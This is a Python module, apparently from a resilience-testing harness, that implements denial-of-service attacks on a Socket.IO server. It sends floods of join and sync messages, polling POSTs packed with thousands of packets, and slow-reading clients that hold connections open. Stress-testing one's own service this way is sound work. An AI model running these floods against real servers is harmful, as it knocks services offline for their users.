"""Attacks with well-formed Socket.IO messages: floods of joins and syncs, POSTs of thousands of packets."""

import json
import socket

from attacks.wire import SMALL_FRAMES, Target, again_and_again, answer_to, frame, in_threads, request

PACKETS = 4_900
"""In one POST: a little less than the server takes."""
SYNCING_CLIENTS = 10
SYNCS = 12


def joins(target: Target) -> None:
    _flood(target, message("join_department", target.departments["small"]))


def syncs(target: Target) -> None:
    _flood(target, message("sync_request", target.departments["small"]))


def posts_of_many_packets(target: Target) -> None:
    """Join again and again, thousands of times in each POST of a polling client that fetches nothing."""
    body = "\x1e".join([message("join_department", target.departments["small"])] * PACKETS).encode()

    def attack() -> None:
        with target.connect() as tcp:
            path = polling_session(tcp)
            while target.remaining_s:
                tcp.sendall(request("POST", path, ("Content-Type", "text/plain"), body=body))
                answer_to(tcp)

    target.persist(attack)


def unread_syncs_by_websocket(target: Target) -> None:
    """Ask for a large department again and again in several clients that read nothing."""
    messages = frame(message("sync_request", target.departments["large"])) * SYNCS

    def client() -> None:
        with target.websocket(receive_buffer=4_096) as tcp:
            tcp.sendall(messages)
            target.hold()

    in_threads(SYNCING_CLIENTS, lambda: target.persist(client))


def unread_syncs_by_polling(target: Target) -> None:
    body = "\x1e".join([message("sync_request", target.departments["large"])] * SYNCS).encode()

    def client() -> None:
        with target.connect() as tcp:
            path = polling_session(tcp)
            tcp.sendall(request("POST", path, ("Content-Type", "text/plain"), body=body))
            target.hold()

    in_threads(SYNCING_CLIENTS, lambda: target.persist(client))


def message(name: str, department_id: str) -> str:
    """Return the packet of a message about a department."""
    return "42" + json.dumps([name, {"department_id": department_id}])


def polling_session(tcp: socket.socket) -> str:
    """Begin a session of polling and the Socket.IO connection in it; return its path."""
    tcp.sendall(request("GET", "/socket.io/?EIO=4&transport=polling"))
    path = f"/socket.io/?EIO=4&transport=polling&sid={json.loads(answer_to(tcp)[1:])['sid']}"
    tcp.sendall(request("POST", path, ("Content-Type", "text/plain"), body=b"40"))
    answer_to(tcp)
    return path


def _flood(target: Target, packet: str) -> None:
    def attack() -> None:
        with target.websocket() as tcp:
            target.flood(tcp, again_and_again(frame(packet)), SMALL_FRAMES)

    target.persist(attack)
